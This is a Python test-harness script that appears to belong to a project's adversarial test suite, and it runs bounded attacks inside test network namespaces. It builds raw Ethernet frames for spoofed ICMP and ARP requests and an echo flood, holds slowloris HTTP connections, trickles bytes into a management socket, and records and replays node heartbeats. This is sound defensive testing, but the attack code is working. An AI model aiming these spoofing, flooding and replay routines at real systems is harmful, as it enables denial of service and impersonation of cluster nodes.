#!/usr/bin/env python3
"""attack.py — the attacks of tests/adversary/run.sh (issue 14), standard library only.
Each subcommand runs one attack inside the namespace it is started in, bounded in time,
and prints one JSON line of what it saw; run.sh asserts on it.

  l1 IFACE OUR_MAC NODE_IP SRC_IP      raw frames on IFACE (AF_PACKET): ICMP echo and ARP
                                       requests from sources that are not unicast and with
                                       IP options (none may be answered), then a burst of
                                       FLOOD valid echo requests; every frame from the node
                                       is captured: replies counted, none larger than the
                                       largest request.
  slowloris HOST PORT SOURCE N         N TCP connections from SOURCE that send a request
                                       line and never end their headers; holds them until
                                       a file named by --until exists (or --hold-s passes).
  trickle SOCKET                       connects to the management socket and sends
                                       "ready" one byte every --every-s seconds; reports
                                       when the server closed it.
  hb-record IFACE SENDER PORT OUT      captures (AF_PACKET on IFACE) the UDP payloads to
                                       PORT that are heartbeats of node SENDER ("TH", its
                                       id at byte 4) for --seconds; writes the last one, in
                                       hex, to OUT (issue 14, M3: a recording on the wire).
  hb-replay SOURCE PORT TARGET A B     sends the recorded heartbeats A and B (hex files)
                                       in turn from SOURCE:PORT (the dead node's address)
                                       to TARGET:PORT, one every --every-ms, for --seconds.

Nothing is sent anywhere but the test's namespaces."""
import argparse
import json
import os
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def echo_frame(dst_mac, src_mac, src_ip, dst_ip, ident, seq, options=b""):
    """An Ethernet frame with an ICMP echo request (IP options appended to the header)."""
    icmp = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + b"adversary-probe!" * 2
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    ihl = 5 + len(options) // 4
    header = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(icmp), ident, 0, 64, 1, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip)) + options
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + header + icmp


def arp_frame(src_mac, sender_mac, sender_ip, target_ip):
    body = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, sender_mac,
                       socket.inet_aton(sender_ip), b"\0" * 6, socket.inet_aton(target_ip))
    return b"\xff" * 6 + src_mac + struct.pack("!H", ETH_P_ARP) + body


def capture(sock, node_mac, seconds, sink):
    """Frames from node_mac until seconds pass: (kind, size) appended to sink."""
    end = time.monotonic() + seconds
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return
        sock.settimeout(left)
        try:
            frame = sock.recv(65535)
        except socket.timeout:
            return
        if len(frame) < 14 or frame[6:12] != node_mac:
            continue
        ethertype = struct.unpack("!H", frame[12:14])[0]
        if ethertype == ETH_P_ARP:
            sink.append(("arp", len(frame)))
        elif ethertype == ETH_P_IP and len(frame) >= 34 and frame[23] == 1 and frame[34] == 0:
            sink.append(("echo_reply", len(frame)))
        else:
            sink.append(("other", len(frame)))


def attack_l1(args):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((args.iface, 0))
    our_mac = mac_bytes(open("/sys/class/net/%s/address" % args.iface).read().strip())
    node_mac = mac_bytes(args.node_mac)
    group_mac = bytes.fromhex("01005e000001")
    record_route = bytes([7, 39, 4]) + b"\0" * 36 + b"\0"  # 40 bytes of options
    bad = [
        echo_frame(node_mac, our_mac, "255.255.255.255", args.node_ip, 1, 1),
        echo_frame(node_mac, our_mac, "224.0.0.1", args.node_ip, 1, 2),
        echo_frame(node_mac, our_mac, "0.0.0.0", args.node_ip, 1, 3),
        echo_frame(node_mac, group_mac, args.src_ip, args.node_ip, 1, 4),
        echo_frame(node_mac, our_mac, args.src_ip, args.node_ip, 1, 5, record_route),
        arp_frame(our_mac, our_mac, "255.255.255.255", args.node_ip),
        arp_frame(group_mac, group_mac, args.src_ip, args.node_ip),
    ]
    seen = []
    largest = 0
    for frame in bad:
        largest = max(largest, len(frame))
        sock.send(frame)
    capture(sock, node_mac, 1.0, seen)
    answered_bad = len(seen)
    flood = [echo_frame(node_mac, our_mac, args.src_ip, args.node_ip, 2, i) for i in range(args.flood)]
    for frame in flood:
        largest = max(largest, len(frame))
        sock.send(frame)
    flood_seen = []
    capture(sock, node_mac, 2.0, flood_seen)
    replies = sum(1 for kind, _ in flood_seen if kind == "echo_reply")
    report = {"bad_sent": len(bad), "bad_answered": answered_bad, "flood_sent": args.flood,
              "flood_replies": replies, "largest_request": largest,
              "largest_reply": max([size for _, size in seen + flood_seen] or [0])}
    print(json.dumps(report))
    return 0


def attack_slowloris(args):
    held = []
    for _ in range(args.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((args.source, 0))
        s.settimeout(2)
        try:
            s.connect((args.host, args.port))
            s.send(b"GET /health/live HTTP/1.0\r\n")
            held.append(s)
        except OSError:
            s.close()
    open(args.ready, "w").close()
    end = time.monotonic() + args.hold_s
    while time.monotonic() < end and not os.path.exists(args.until):
        time.sleep(0.05)
    still_open = 0
    for s in held:
        s.setblocking(False)
        try:
            s.recv(1)  # b"": closed by the server; bytes: answered (not held either)
        except BlockingIOError:
            still_open += 1  # nothing to read, not closed: the server keeps it
        except OSError:
            pass
        s.close()
    print(json.dumps({"tried": args.count, "connected": len(held), "held_at_end": still_open}))
    return 0


def attack_trickle(args):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(args.socket)
    start = time.monotonic()
    sent = 0
    closed_after = None
    # Bounded: --bytes bytes at most, one every --every-s.
    for i in range(args.bytes):
        try:
            s.send(b"ready"[i % 5:i % 5 + 1])
            sent += 1
        except OSError:
            closed_after = time.monotonic() - start
            break
        time.sleep(args.every_s)
        s.setblocking(False)
        try:
            s.recv(256)  # the refusal or the close: the server ended it
            closed_after = time.monotonic() - start
            break
        except BlockingIOError:
            pass
        s.setblocking(True)
    print(json.dumps({"bytes_sent": sent, "closed_after_s": closed_after}))
    return 0


def attack_hb_record(args):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((args.iface, 0))
    sock.settimeout(0.1)
    last, seen = None, 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        try:
            frame = sock.recv(2048)
        except socket.timeout:
            continue
        if len(frame) < 14 + 20 + 8 + 48 or struct.unpack_from("!H", frame, 12)[0] != ETH_P_IP:
            continue
        ihl = (frame[14] & 0x0F) * 4
        udp = 14 + ihl
        if frame[14 + 9] != socket.IPPROTO_UDP or struct.unpack_from("!H", frame, udp + 2)[0] != args.port:
            continue
        payload = frame[udp + 8:]
        if payload[:2] == b"TH" and struct.unpack_from("<H", payload, 4)[0] == args.sender:
            last, seen = payload[:48], seen + 1
    if last is not None:
        with open(args.out, "w") as f:
            f.write(last.hex())
    print(json.dumps({"captured": seen, "incarnation": struct.unpack_from("<I", last, 8)[0] if last else 0}))
    return 0 if last is not None else 1


def attack_hb_replay(args):
    recorded = [bytes.fromhex(open(path).read().strip()) for path in (args.first, args.second)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.bind((args.source, args.port))
    except OSError:
        sock.bind((args.source, 0))
    sent = 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        sock.sendto(recorded[sent % 2], (args.target, args.port))
        sent += 1
        time.sleep(args.every_ms / 1000)
    print(json.dumps({"sent": sent}))
    return 0


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="attack", required=True)
    l1 = sub.add_parser("l1")
    l1.add_argument("iface")
    l1.add_argument("node_mac")
    l1.add_argument("node_ip")
    l1.add_argument("src_ip")
    l1.add_argument("--flood", type=int, default=200)
    slow = sub.add_parser("slowloris")
    slow.add_argument("host")
    slow.add_argument("port", type=int)
    slow.add_argument("source")
    slow.add_argument("count", type=int)
    slow.add_argument("--ready", required=True)
    slow.add_argument("--until", required=True)
    slow.add_argument("--hold-s", type=float, default=60)
    trickle = sub.add_parser("trickle")
    trickle.add_argument("socket")
    trickle.add_argument("--every-s", type=float, default=1.0)
    trickle.add_argument("--bytes", type=int, default=60)
    record = sub.add_parser("hb-record")
    record.add_argument("iface")
    record.add_argument("sender", type=int)
    record.add_argument("port", type=int)
    record.add_argument("out")
    record.add_argument("--seconds", type=float, default=1.0)
    replay = sub.add_parser("hb-replay")
    replay.add_argument("source")
    replay.add_argument("port", type=int)
    replay.add_argument("target")
    replay.add_argument("first")
    replay.add_argument("second")
    replay.add_argument("--every-ms", type=float, default=20)
    replay.add_argument("--seconds", type=float, default=4)
    args = p.parse_args()
    return {"l1": attack_l1, "slowloris": attack_slowloris, "trickle": attack_trickle,
            "hb-record": attack_hb_record, "hb-replay": attack_hb_replay}[args.attack](args)


if __name__ == "__main__":
    sys.exit(main())
